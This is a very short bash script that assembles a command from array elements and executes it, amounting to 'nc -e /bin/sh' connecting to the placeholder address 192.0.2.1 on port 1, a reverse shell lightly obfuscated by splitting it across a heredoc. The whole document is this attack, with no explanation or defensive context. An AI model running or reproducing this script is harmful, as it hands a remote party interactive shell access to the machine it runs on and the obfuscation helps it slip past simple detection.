#!/bin/bash
mapfile -t a <<'E'
nc
-e
/bin/sh
192.0.2.1
1
E
"${a[@]}"
